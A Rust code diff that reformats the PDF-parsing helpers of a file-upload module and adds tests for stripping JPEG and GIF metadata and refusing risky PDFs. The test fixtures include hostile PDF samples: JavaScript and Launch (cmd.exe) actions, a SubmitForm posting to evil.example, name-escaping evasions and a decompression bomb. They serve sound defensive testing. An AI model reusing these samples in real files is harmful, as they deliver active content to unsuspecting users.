@@ -310,8 +310,22 @@ const PDF_MIN_NAME_IN_STREAM_DATA: usize = 6;
 fn pdf_delimiter(byte: u8) -> bool {
     matches!(
         byte,
-        b'\0' | b'\t' | b'\n' | b'\x0c' | b'\r' | b' ' | b'(' | b')' | b'<' | b'>' | b'[' | b']'
-            | b'{' | b'}' | b'/' | b'%'
+        b'\0'
+            | b'\t'
+            | b'\n'
+            | b'\x0c'
+            | b'\r'
+            | b' '
+            | b'('
+            | b')'
+            | b'<'
+            | b'>'
+            | b'['
+            | b']'
+            | b'{'
+            | b'}'
+            | b'/'
+            | b'%'
     )
 }
 
@@ -364,8 +378,8 @@ fn pdf_has_name(bytes: &[u8], wanted: &str) -> bool {
 /// The filters a stream dictionary names: `Ok(vec![])` for none, `Err(())` when the
 /// `/Filter` value is not a name or an array of names (an indirect reference, say).
 fn pdf_filters(dict: &[u8]) -> Result<Vec<Vec<u8>>, ()> {
-    let Some((start, _)) = pdf_names(dict)
-        .find(|(_, (name, len))| name[..*len].eq_ignore_ascii_case(b"Filter"))
+    let Some((start, _)) =
+        pdf_names(dict).find(|(_, (name, len))| name[..*len].eq_ignore_ascii_case(b"Filter"))
     else {
         return Ok(Vec::new());
     };
@@ -499,13 +513,14 @@ fn inspect_pdf(bytes: &[u8]) -> Result<PdfInspection, UploadError> {
 /// Inflates zlib (or, as viewers tolerate, raw deflate) `data` into at most `limit`
 /// bytes; more, or damaged data, cannot be inspected.
 fn inflate_within(data: &[u8], limit: usize) -> Result<Vec<u8>, UploadError> {
-    use miniz_oxide::inflate::{decompress_to_vec_with_limit, decompress_to_vec_zlib_with_limit};
     use miniz_oxide::inflate::TINFLStatus;
+    use miniz_oxide::inflate::{decompress_to_vec_with_limit, decompress_to_vec_zlib_with_limit};
     match decompress_to_vec_zlib_with_limit(data, limit) {
         Ok(plain) => Ok(plain),
         Err(e) if e.status == TINFLStatus::HasMoreOutput => Err(UploadError::PdfUninspectable),
-        Err(_) => decompress_to_vec_with_limit(data, limit)
-            .map_err(|_| UploadError::PdfUninspectable),
+        Err(_) => {
+            decompress_to_vec_with_limit(data, limit).map_err(|_| UploadError::PdfUninspectable)
+        }
     }
 }
 
@@ -1114,7 +1129,8 @@ pub fn download_headers(kind: FileKind, display_name: &str) -> HeaderMap {
     headers.insert(header::CONTENT_TYPE, HeaderValue::from_static(kind.mime()));
     // The ASCII fallback gets the same guard as the display name: securing
     // `_CON.txt` again would strip the `_` that keeps Windows from opening a device.
-    let fallback = self::display_name(display_name, usize::MAX).unwrap_or_else(|_| "download".to_owned());
+    let fallback =
+        self::display_name(display_name, usize::MAX).unwrap_or_else(|_| "download".to_owned());
     let encoded =
         percent_encoding::utf8_percent_encode(display_name, percent_encoding::NON_ALPHANUMERIC);
     let disposition = format!("attachment; filename=\"{fallback}\"; filename*=UTF-8''{encoded}");
@@ -1322,5 +1338,539 @@ mod tests {
             value.contains("filename*=UTF-8''%D1%84%D0%BE%D1%82%D0%BE%2Epng"),
             "{value}"
         );
+    }
+
+    /// A TIFF block with a GPS position (latitude 48° N, longitude 2° E), as cameras
+    /// write it after `Exif\0\0`.
+    fn exif_with_gps() -> Vec<u8> {
+        let mut tiff = b"Exif\0\0II*\0\x08\0\0\0".to_vec();
+        tiff.extend_from_slice(&[1, 0]); // IFD0: one entry
+        tiff.extend_from_slice(&[0x25, 0x88, 4, 0, 1, 0, 0, 0, 26, 0, 0, 0]); // GPSInfo → 26
+        tiff.extend_from_slice(&[0, 0, 0, 0]);
+        tiff.extend_from_slice(&[2, 0]); // GPS IFD: two entries
+        tiff.extend_from_slice(&[1, 0, 2, 0, 2, 0, 0, 0, b'N', 0, 0, 0]);
+        tiff.extend_from_slice(&[3, 0, 2, 0, 2, 0, 0, 0, b'E', 0, 0, 0]);
+        tiff.extend_from_slice(&[0, 0, 0, 0]);
+        tiff
+    }
+
+    /// A 32×24 gradient, so that JPEG scans carry real data.
+    fn pixels(seed: u8) -> Vec<u8> {
+        (0..32 * 24)
+            .flat_map(|i: usize| {
+                let (x, y) = ((i % 32) as u8, (i / 32) as u8);
+                [x * 8, y * 10, seed.wrapping_add(x ^ y)]
+            })
+            .collect()
+    }
+
+    /// A JPEG from a real encoder, with EXIF (GPS) in APP1 when `exif` is set.
+    fn encode_jpeg(seed: u8, progressive: bool, exif: bool) -> Vec<u8> {
+        let mut out = Vec::new();
+        let mut encoder = jpeg_encoder::Encoder::new(&mut out, 90);
+        encoder.set_progressive(progressive);
+        if exif {
+            encoder.add_app_segment(1, &exif_with_gps()).unwrap();
+        }
+        encoder
+            .encode(&pixels(seed), 32, 24, jpeg_encoder::ColorType::Rgb)
+            .unwrap();
+        out
+    }
+
+    fn decode_jpeg(bytes: &[u8]) -> Vec<u8> {
+        zune_jpeg::JpegDecoder::new(bytes).decode().unwrap()
+    }
+
+    /// EXIF fields that kamadak-exif finds in any JPEG starting anywhere in `bytes`
+    /// (the primary image, or one appended after it).
+    fn exif_fields_anywhere(bytes: &[u8]) -> usize {
+        memchr::memmem::find_iter(bytes, b"\xFF\xD8\xFF")
+            .filter_map(|start| {
+                exif::Reader::new()
+                    .read_from_container(&mut std::io::Cursor::new(&bytes[start..]))
+                    .ok()
+            })
+            .map(|exif| exif.fields().count())
+            .sum()
+    }
+
+    fn app_segment(marker: u8, contents: &[u8]) -> Vec<u8> {
+        let mut segment = vec![0xFF, marker];
+        segment.extend_from_slice(&u16::try_from(contents.len() + 2).unwrap().to_be_bytes());
+        segment.extend_from_slice(contents);
+        segment
+    }
+
+    #[test]
+    fn jpeg_images_and_videos_appended_after_the_photo_are_cut_off() {
+        let primary = encode_jpeg(1, false, true);
+        assert_eq!(exif_fields_anywhere(&primary), 2, "the photo carries GPS");
+        let clean_pixels = decode_jpeg(&encode_jpeg(1, false, false));
+        // Multi-picture (MPF): an APP2 index in the first image, then a second JPEG
+        // with EXIF of its own after the first one's end.
+        let mut mpf = primary[..2].to_vec();
+        mpf.extend(app_segment(0xE2, b"MPF\0II*\0\x08\0\0\0\0\0\0\0\0\0"));
+        mpf.extend_from_slice(&primary[2..]);
+        let appended = encode_jpeg(200, false, true);
+        mpf.extend_from_slice(&appended);
+        // Motion Photo: an MP4 after the end of the image.
+        let mut motion = primary.clone();
+        let mut video = b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom".to_vec();
+        video.extend_from_slice(b"\0\0\0\x20mdatGPS 48.8584 N 2.2945 E video...");
+        motion.extend_from_slice(&video);
+        for (what, file, tail) in [
+            ("MPF", &mpf, &appended[..]),
+            ("motion", &motion, &video[..]),
+        ] {
+            assert!(
+                exif_fields_anywhere(file) > exif_fields_anywhere(&primary) || what == "motion"
+            );
+            let stripped = strip_metadata(FileKind::Jpeg, file.clone()).unwrap();
+            assert_eq!(exif_fields_anywhere(&stripped), 0, "{what}");
+            assert!(memchr::memmem::find(&stripped, b"Exif").is_none(), "{what}");
+            assert!(
+                memchr::memmem::find(&stripped, b"MPF\0").is_none(),
+                "{what}"
+            );
+            assert!(
+                stripped.len() < primary.len(),
+                "{what}: nothing after the image"
+            );
+            assert!(stripped.ends_with(&[0xFF, 0xD9]), "{what}");
+            // No trace of what followed: not even the last 24 bytes of its data.
+            assert!(
+                memchr::memmem::find(&stripped, &tail[tail.len() - 24..]).is_none(),
+                "{what}"
+            );
+            assert_eq!(infer::get(&stripped).unwrap().mime_type(), "image/jpeg");
+            assert_eq!(decode_jpeg(&stripped), clean_pixels, "{what}: same picture");
+        }
+    }
+
+    #[test]
+    fn jpeg_segments_between_progressive_scans_are_dropped() {
+        let clean = encode_jpeg(7, true, false);
+        let clean_pixels = decode_jpeg(&clean);
+        // SOS markers cannot occur inside entropy-coded data (0xFF is stuffed).
+        let scans: Vec<usize> = memchr::memmem::find_iter(&clean, b"\xFF\xDA").collect();
+        assert!(scans.len() >= 3, "a progressive JPEG has several scans");
+        let mut hostile = clean[..scans[1]].to_vec();
+        hostile.extend(app_segment(0xE1, &exif_with_gps()));
+        hostile.extend(app_segment(0xFE, b"taken at 48.8584 N 2.2945 E"));
+        hostile.extend(app_segment(
+            0xE2,
+            b"ICC_PROFILE\0\x01\x01not a profile here",
+        ));
+        hostile.extend_from_slice(&clean[scans[1]..scans[2]]);
+        hostile.extend(app_segment(0xED, b"Photoshop 3.0\08BIM caption"));
+        hostile.extend_from_slice(&clean[scans[2]..]);
+        assert_eq!(decode_jpeg(&hostile), clean_pixels, "decoders skip them");
+        let stripped = strip_metadata(FileKind::Jpeg, hostile).unwrap();
+        assert_eq!(stripped, clean, "exactly the encoder's file again");
+        assert_eq!(exif_fields_anywhere(&stripped), 0);
+        assert_eq!(decode_jpeg(&stripped), clean_pixels);
+    }
+
+    #[test]
+    fn jpeg_header_metadata_goes_and_decoding_segments_stay() {
+        let photo = encode_jpeg(3, false, true);
+        let mut with_more = photo[..2].to_vec();
+        with_more.extend(app_segment(0xE2, b"ICC_PROFILE\0\x01\x01profile bytes"));
+        with_more.extend(app_segment(0xEE, b"Adobe\0\x64\0\0\0\0\x01"));
+        with_more.extend(app_segment(
+            0xE1,
+            b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta GPS/>",
+        ));
+        with_more.extend(app_segment(0xFE, b"a comment"));
+        with_more.extend_from_slice(&photo[2..]);
+        let stripped = strip_metadata(FileKind::Jpeg, with_more).unwrap();
+        assert_eq!(exif_fields_anywhere(&stripped), 0);
+        assert!(memchr::memmem::find(&stripped, b"ICC_PROFILE\0").is_some());
+        assert!(memchr::memmem::find(&stripped, b"Adobe").is_some());
+        assert!(memchr::memmem::find(&stripped, b"xmpmeta").is_none());
+        assert!(memchr::memmem::find(&stripped, b"a comment").is_none());
+        for damaged in [
+            &b"\xFF\xD8"[..],
+            b"\xFF\xD8\xFF\xE1\x00",
+            b"\xFF\xD8junk",
+            b"GIF89a",
+        ] {
+            assert_eq!(
+                strip_metadata(FileKind::Jpeg, damaged.to_vec()),
+                Err(UploadError::Damaged),
+                "{damaged:?}"
+            );
+        }
+    }
+
+    /// A two-frame looping GIF from a real encoder, with a comment and an XMP
+    /// application extension between the frames and bytes after the trailer.
+    fn hostile_gif() -> (Vec<u8>, Vec<u8>) {
+        let palette = [0, 0, 0, 255, 255, 255, 255, 0, 0, 0, 0, 255];
+        let frames = [[0u8, 1, 2, 3, 3, 2, 1, 0], [3, 3, 2, 2, 1, 1, 0, 0]];
+        let encode = |hostile: bool| {
+            let mut out = Vec::new();
+            {
+                let mut encoder = gif::Encoder::new(&mut out, 4, 2, &palette).unwrap();
+                encoder.set_repeat(gif::Repeat::Infinite).unwrap();
+                for (n, pixels) in frames.iter().enumerate() {
+                    if hostile {
+                        encoder
+                            .write_raw_extension(
+                                gif::Extension::Comment.into(),
+                                &[b"taken at 48.8584 N 2.2945 E"],
+                            )
+                            .unwrap();
+                    }
+                    let mut frame = gif::Frame::from_indexed_pixels(4, 2, pixels.to_vec(), None);
+                    frame.delay = 10;
+                    encoder.write_frame(&frame).unwrap();
+                    if hostile && n == 0 {
+                        encoder
+                            .write_raw_extension(
+                                gif::Extension::Application.into(),
+                                &[b"XMP DataXMP", b"<x:xmpmeta><exif:GPSLatitude>48,51N"],
+                            )
+                            .unwrap();
+                    }
+                }
+            }
+            out
+        };
+        let mut hostile = encode(true);
+        hostile.extend_from_slice(b"PK\x03\x04 appended archive");
+        (hostile, encode(false))
+    }
+
+    fn decode_gif(bytes: &[u8]) -> (gif::Repeat, Vec<(u16, Vec<u8>)>) {
+        let mut options = gif::DecodeOptions::new();
+        options.set_color_output(gif::ColorOutput::Indexed);
+        let mut decoder = options.read_info(bytes).unwrap();
+        let mut frames = Vec::new();
+        while let Some(frame) = decoder.read_next_frame().unwrap() {
+            frames.push((frame.delay, frame.buffer.to_vec()));
+        }
+        (decoder.repeat(), frames)
+    }
+
+    #[test]
+    fn gif_comments_xmp_and_trailing_bytes_are_removed() {
+        let (hostile, clean) = hostile_gif();
+        let stripped = strip_metadata(FileKind::Gif, hostile.clone()).unwrap();
+        for secret in [&b"48.8584"[..], b"XMP", b"xmpmeta", b"PK\x03\x04"] {
+            assert!(memchr::memmem::find(&hostile, secret).is_some());
+            assert!(
+                memchr::memmem::find(&stripped, secret).is_none(),
+                "{secret:?}"
+            );
+        }
+        assert_eq!(stripped, clean, "exactly the encoder's file without them");
+        let (repeat, frames) = decode_gif(&stripped);
+        assert_eq!(repeat, gif::Repeat::Infinite, "looping is kept");
+        assert_eq!(frames, decode_gif(&hostile).1, "same frames");
+        assert_eq!(frames.len(), 2);
+        assert_eq!(infer::get(&stripped).unwrap().mime_type(), "image/gif");
+        // A looping block with data smuggled after its count is rebuilt bare.
+        let mut smuggled = clean.clone();
+        let at = memchr::memmem::find(&smuggled, b"NETSCAPE2.0").unwrap() + 11;
+        smuggled.splice(at + 4..at + 4, *b"\x05GPS48");
+        assert!(
+            memchr::memmem::find(&strip_metadata(FileKind::Gif, smuggled).unwrap(), b"GPS48")
+                .is_none()
+        );
+        for damaged in [
+            &b"GIF89a"[..],
+            b"GIF89a\x01\0\x01\0\x80\0\0",
+            b"GIF89a\x01\0\x01\0\0\0\0\x21\xfe\x09ab",
+        ] {
+            assert_eq!(
+                strip_metadata(FileKind::Gif, damaged.to_vec()),
+                Err(UploadError::Damaged),
+                "{damaged:?}"
+            );
+        }
+    }
+
+    /// A PDF with `body` as its objects.
+    fn pdf_with(body: &[u8]) -> Vec<u8> {
+        let mut doc =
+            b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
+                .to_vec();
+        doc.extend_from_slice(body);
+        doc.extend_from_slice(b"\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n");
+        doc
+    }
+
+    /// An object stream (`/Type /ObjStm`) holding `objects`, Flate-compressed.
+    fn object_stream(number: u32, dict_extra: &str, objects: &[u8]) -> Vec<u8> {
+        let compressed = miniz_oxide::deflate::compress_to_vec_zlib(objects, 6);
+        let mut out = format!(
+            "{number} 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length {} {dict_extra} >>\nstream\n",
+            compressed.len()
+        )
+        .into_bytes();
+        out.extend_from_slice(&compressed);
+        out.extend_from_slice(b"\nendstream\nendobj\n");
+        out
+    }
+
+    #[test]
+    fn pdf_active_content_is_refused_however_it_is_written() {
+        let policy = UploadPolicy::default();
+        let flate = "/Filter /FlateDecode";
+        let cases: Vec<(&str, Vec<u8>, &str)> = vec![
+            (
+                "escaped name",
+                pdf_with(b"3 0 obj\n<< /Names << /J#61vaScript 4 0 R >> >>\nendobj"),
+                "JavaScript",
+            ),
+            (
+                "JS before a newline",
+                pdf_with(b"3 0 obj\n<< /S /Foo /JS\n(app.alert(1)) >>\nendobj"),
+                "JS",
+            ),
+            (
+                "JS before a name",
+                pdf_with(b"3 0 obj\n<</JS/x>>\nendobj"),
+                "JS",
+            ),
+            (
+                "additional actions",
+                pdf_with(b"3 0 obj\n<< /Type /Page /AA << /O 5 0 R >> >>\nendobj"),
+                "AA",
+            ),
+            (
+                "launch",
+                pdf_with(b"3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj"),
+                "Launch",
+            ),
+            (
+                "submit form",
+                pdf_with(b"3 0 obj\n<< /S /SubmitForm /F (https://evil.example/) >>\nendobj"),
+                "SubmitForm",
+            ),
+            (
+                "embedded file",
+                pdf_with(
+                    b"3 0 obj\n<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream\nendobj",
+                ),
+                "EmbeddedFile",
+            ),
+            (
+                "escaped embedded file",
+                pdf_with(b"3 0 obj\n<< /Type /Embedded#46ile >>\nendobj"),
+                "EmbeddedFile",
+            ),
+            (
+                "script in an object stream",
+                pdf_with(&object_stream(
+                    3,
+                    flate,
+                    b"4 0 << /S /JavaScript /JS (app.alert(1)) >>",
+                )),
+                "JavaScript",
+            ),
+            (
+                "escaped names on the object stream",
+                pdf_with(&object_stream(
+                    3,
+                    "/Filter /Fl#61teDecode",
+                    b"4 0 << /OpenAction 5 0 R >>",
+                )),
+                "OpenAction",
+            ),
+            (
+                "object stream with no type",
+                pdf_with(
+                    &object_stream(3, flate, b"4 0 <</AA<</O 6 0 R>>>>")
+                        .replace_first(b"/Type /ObjStm ", b""),
+                ),
+                "AA",
+            ),
+        ];
+        for (what, doc, name) in cases {
+            assert_eq!(
+                infer::get(&doc).unwrap().mime_type(),
+                "application/pdf",
+                "{what}"
+            );
+            assert_eq!(
+                policy.check("doc.pdf", &doc),
+                Err(UploadError::PdfActiveContent(name.into())),
+                "{what}"
+            );
+            assert_eq!(UploadError::PdfActiveContent(name.into()).status(), 415);
+        }
+    }
+
+    trait ReplaceFirst {
+        fn replace_first(self, from: &[u8], to: &[u8]) -> Vec<u8>;
+    }
+
+    impl ReplaceFirst for Vec<u8> {
+        fn replace_first(mut self, from: &[u8], to: &[u8]) -> Vec<u8> {
+            let at = memchr::memmem::find(&self, from).unwrap();
+            self.splice(at..at + from.len(), to.iter().copied());
+            self
+        }
+    }
+
+    #[test]
+    fn pdfs_that_cannot_be_inspected_within_the_bound_are_refused() {
+        let policy = UploadPolicy::default();
+        // A decompression bomb: 64 MiB of object stream in about 64 KiB.
+        let bomb = pdf_with(&object_stream(
+            3,
+            "/Filter /FlateDecode",
+            &vec![b' '; 64 << 20],
+        ));
+        assert!(bomb.len() < 256 * 1024);
+        assert_eq!(
+            policy.check("bomb.pdf", &bomb),
+            Err(UploadError::PdfUninspectable)
+        );
+        assert_eq!(UploadError::PdfUninspectable.status(), 415);
+        // Many object streams, each small.
+        let mut many = Vec::new();
+        for n in 0..=PDF_MAX_OBJECT_STREAMS as u32 {
+            many.extend(object_stream(
+                n + 10,
+                "/Filter /FlateDecode",
+                b"4 0 << /A 1 >>",
+            ));
+        }
+        assert_eq!(
+            policy.check("many.pdf", &pdf_with(&many)),
+            Err(UploadError::PdfUninspectable)
+        );
+        // Encodings not read here, filters given by reference, predictors, damage.
+        for extra in [
+            "/Filter /LZWDecode",
+            "/Filter [/ASCII85Decode /FlateDecode]",
+            "/Filter 9 0 R",
+            "/Filter [/FlateDecode 9 0 R]",
+            "/Filter /FlateDecode /DecodeParms << /Predictor 12 >>",
+        ] {
+            let doc = pdf_with(&object_stream(3, extra, b"4 0 << /A 1 >>"));
+            assert_eq!(
+                policy.check("x.pdf", &doc),
+                Err(UploadError::PdfUninspectable),
+                "{extra}"
+            );
+        }
+        let damaged = pdf_with(b"3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\nnot zlib\nendstream\nendobj");
+        assert_eq!(
+            policy.check("x.pdf", &damaged),
+            Err(UploadError::PdfUninspectable)
+        );
+    }
+
+    #[test]
+    fn ordinary_pdfs_pass_and_inspection_cost_is_counted() {
+        let policy = UploadPolicy::default();
+        // Object streams with ordinary objects, a compressed page and binary image
+        // data whose bytes include short names by chance ("/JS ", "/AA>").
+        let mut body = object_stream(
+            3,
+            "/Filter /FlateDecode",
+            b"4 0 << /Type /Page /Parent 2 0 R /JSFont 5 0 R >>",
+        );
+        body.extend(object_stream(
+            6,
+            "/Filter [/FlateDecode]",
+            b"7 0 << /Type /Font /Subtype /Type1 >>",
+        ));
+        let content = miniz_oxide::deflate::compress_to_vec_zlib(b"BT /F1 12 Tf (Hello) Tj ET", 6);
+        body.extend(
+            format!(
+                "8 0 obj\n<< /Length {} /Filter /FlateDecode >>\nstream\n",
+                content.len()
+            )
+            .into_bytes(),
+        );
+        body.extend(content);
+        body.extend_from_slice(b"\nendstream\nendobj\n9 0 obj\n<< /Subtype /Image /Filter /DCTDecode >>\nstream\n\xff\xd8/JS \x01/AA>\x02/js(\xff\xd9\nendstream\nendobj\n");
+        let doc = pdf_with(&body);
+        assert_eq!(policy.check("ok.pdf", &doc), Ok(FileKind::Pdf));
+        let cost = inspect_pdf(&doc).unwrap();
+        assert_eq!(cost.object_streams, 2);
+        assert!(cost.inflated_bytes < 200);
+        // Stream data is still searched for the long names.
+        let hidden = pdf_with(
+            b"3 0 obj\n<< /Subtype /Image >>\nstream\n\x01\x02/JavaScript \x03\nendstream\nendobj",
+        );
+        assert_eq!(
+            policy.check("x.pdf", &hidden),
+            Err(UploadError::PdfActiveContent("JavaScript".into()))
+        );
+    }
+
+    #[test]
+    fn download_fallback_name_keeps_the_device_name_guard() {
+        for (shown, fallback) in [
+            ("_CON.txt", "_CON.txt"),
+            ("_nul.png", "_nul.png"),
+            ("_LPT1", "_LPT1"),
+            ("日本.pdf", "pdf"),
+        ] {
+            let headers = download_headers(FileKind::Pdf, shown);
+            let value = headers["content-disposition"].to_str().unwrap();
+            assert!(
+                value.starts_with(&format!("attachment; filename=\"{fallback}\";")),
+                "{value}"
+            );
+        }
+        let headers = download_headers(FileKind::Pdf, "日本");
+        let value = headers["content-disposition"].to_str().unwrap();
+        assert!(
+            value.starts_with("attachment; filename=\"download\";"),
+            "{value}"
+        );
+    }
+
+    #[test]
+    fn a_starting_storage_keeps_another_instances_staged_file() {
+        let dir = tempfile::tempdir().unwrap();
+        let first = LocalStorage::new(dir.path()).unwrap();
+        let staged = first.stage(b"in flight").unwrap();
+        // Another instance starts on the same folder while the upload is in flight.
+        let second = LocalStorage::new(dir.path()).unwrap();
+        assert_ne!(first.staging_folder(), second.staging_folder());
+        first.commit(&staged).unwrap();
+        assert_eq!(second.read(&staged.name).unwrap(), b"in flight");
+        let theirs = second.stage(b"second").unwrap();
+        second.commit(&theirs).unwrap();
+        assert_eq!(first.read(&theirs.name).unwrap(), b"second");
+
+        // A crashed instance's folder, untouched for two days, is removed at start;
+        // so is a file an older version left directly in `.staging`.
+        let stale = dir.path().join(".staging").join(random_id());
+        std::fs::create_dir_all(&stale).unwrap();
+        std::fs::write(stale.join(random_id()), b"partial").unwrap();
+        let legacy = dir.path().join(".staging").join(random_id());
+        std::fs::write(&legacy, b"partial").unwrap();
+        let two_days_ago = std::time::SystemTime::now() - 2 * LocalStorage::STALE_STAGING;
+        for path in [&stale, &legacy] {
+            std::fs::File::open(path)
+                .unwrap()
+                .set_modified(two_days_ago)
+                .unwrap();
+        }
+        let in_flight = first.stage(b"again").unwrap();
+        let third = LocalStorage::new(dir.path()).unwrap();
+        assert!(
+            !stale.exists() && !legacy.exists(),
+            "stale leftovers are removed"
+        );
+        assert!(first.staging_folder().exists() && second.staging_folder().exists());
+        first.commit(&in_flight).unwrap();
+        assert_eq!(third.read(&in_flight.name).unwrap(), b"again");
+
+        // An instance whose folder was taken for a stale one makes it again.
+        std::fs::remove_dir_all(second.staging_folder()).unwrap();
+        let after = second.stage(b"after").unwrap();
+        second.commit(&after).unwrap();
+        assert_eq!(first.read(&after.name).unwrap(), b"after");
     }
 }
